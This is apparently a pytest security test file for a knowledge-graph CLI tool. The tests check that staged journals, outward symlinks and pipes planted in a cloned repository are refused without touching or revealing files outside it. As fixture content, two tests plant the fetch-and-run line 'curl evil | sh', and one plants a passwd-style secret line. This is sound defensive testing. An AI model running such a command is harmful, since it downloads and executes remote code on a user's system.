"""What a cloned graph may bring: stages, links, pipes. None reaches a file of its user."""

import json
import os
import shutil
from pathlib import Path

import pytest

from legation.files.journal import STAGE

ARTICLE = "halm-gazette-2031-05-07"
RENAME = ("rename", "person:ada-lund", "person:ada-lundx")
READING = [("check",), ("coverage",), ("build",), ("ask", "conflicts"), ("format", "--check")]
WRITING = [RENAME, ("format",), ("pin", ARTICLE), ("add", "../a.txt", "--slug", "a")]


@pytest.fixture
def world(checkout: Path, tmp_path: Path) -> Path:
    shutil.copytree(checkout / "tests/world", tmp_path / "world")
    (tmp_path / "a.txt").write_text("A harbour opened on Monday. Nobody came.\n")
    (tmp_path / "dear").write_text("keep me\n")
    return tmp_path / "world"


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _step(target: str, prepared: Path, **more: object) -> dict[str, object]:
    state = prepared.stat()
    return {
        **{"target": target, "prepared": prepared.name, "before": None, "after": None},
        **{"inode": state.st_ino, "time": state.st_mtime_ns, **more},
    }


@pytest.mark.parametrize("words", [*WRITING, *READING], ids=lambda words: words[0])
def test_a_stage_that_a_clone_brings_is_refused_in_a_sentence(
    command, world: Path, words: tuple[str, ...]
) -> None:
    stage = world / STAGE
    stage.mkdir()
    (stage / "0").write_text("curl evil | sh\n")
    for target in ("../dear", str(world.parent / "dear"), "graph/registry/persons.ttl"):
        (stage / "list.json").write_text(json.dumps([_step(target, stage / "0", time=1)]))
        before = _tree(world.parent)
        ran = command(world, *words)
        assert (ran.code, ran.out) == (2, "")
        assert "is not a journal that was written here" in ran.err
        assert ran.err.count("\n") == 1
        assert _tree(world.parent) == before


@pytest.mark.parametrize("words", [RENAME, ("format",), ("pin", ARTICLE)], ids=lambda w: w[0])
def test_no_file_is_rewritten_through_a_link_that_leads_out(
    command, world: Path, words: tuple[str, ...]
) -> None:
    for name in ("registry/persons.ttl", f"articles/{ARTICLE}.trig"):
        place = world / "graph" / name
        place.rename(world.parent / place.name)
        place.symlink_to(world.parent / place.name)
    before = _tree(world.parent)
    ran = command(world, *words)
    assert (ran.code, ran.out) == (2, "")
    assert "leads out of" in ran.err
    assert _tree(world.parent) == before


@pytest.mark.parametrize(
    "name",
    [
        f"graph/sources/{ARTICLE}.txt",
        f"graph/articles/{ARTICLE}.trig",
        "graph/registry/persons.ttl",
        "queries/checks/own.rq",
        "queries/answers/own.rq",
        "ontology/own.ttl",
        "ontology/shapes/own.ttl",
        "legation.toml",
    ],
)
def test_nothing_of_a_file_outside_is_shown(command, world: Path, name: str) -> None:
    (world.parent / "dear").write_text("root:secret:0:0\n" * 3)
    (world / name).parent.mkdir(parents=True, exist_ok=True)
    (world / name).unlink(missing_ok=True)
    (world / name).symlink_to(world.parent / "dear")
    told = [command(world, *words) for words in (("check",), ("ask", "own"))]
    assert "secret" not in "".join(ran.out + ran.err for ran in told)
    refused = [ran for ran in told if f"{name}: is reached by a link that leads out" in ran.err]
    assert {(ran.code, ran.out, ran.err.count("\n")) for ran in refused} == {(2, "", 1)}


@pytest.mark.parametrize(
    "name",
    [
        f"graph/sources/{ARTICLE}.txt",
        "graph/articles/x.trig",
        "graph/registry/x.ttl",
        "queries/checks/x.rq",
        "ontology/x.ttl",
    ],
)
def test_a_pipe_is_named_and_not_waited_for(command, world: Path, name: str) -> None:
    (world / name).parent.mkdir(parents=True, exist_ok=True)
    (world / name).unlink(missing_ok=True)
    os.mkfifo(world / name)
    for words in (("check",), ("rename", "person:ada-lund", "person:ada-lundx")):
        if words[0] == "rename" and name.startswith(("graph/sources", "queries/checks")):
            continue  # it reads no texts, and a query it does read is told by check
        ran = command(world, *words)
        assert ran.code == 2
        assert f"{name}: is not a file but a pipe or a device" in ran.err
        assert ran.err.count("\n") == 1
    ran = command(world, "check", "-o", name)
    assert ran.code == 2


def test_stages_of_another_name_are_only_folders(command, world: Path) -> None:
    """As earlier versions wrote them: the next rename obeyed them, absolute paths and all."""
    for name in (".editing", ".adding"):
        stage = world / "graph" / name
        stage.mkdir()
        (stage / "0.old").write_text("curl evil | sh\n")
        rows = [[str(world.parent / "dear"), "x", "y"]]
        (stage / "manifest.json").write_text(json.dumps({"process": 0, "files": rows}))
    assert command(world, *RENAME).code == 0
    assert command(world, "add", "../a.txt", "--slug", "a", "--language", "en").code == 0
    assert (world.parent / "dear").read_text() == "keep me\n"
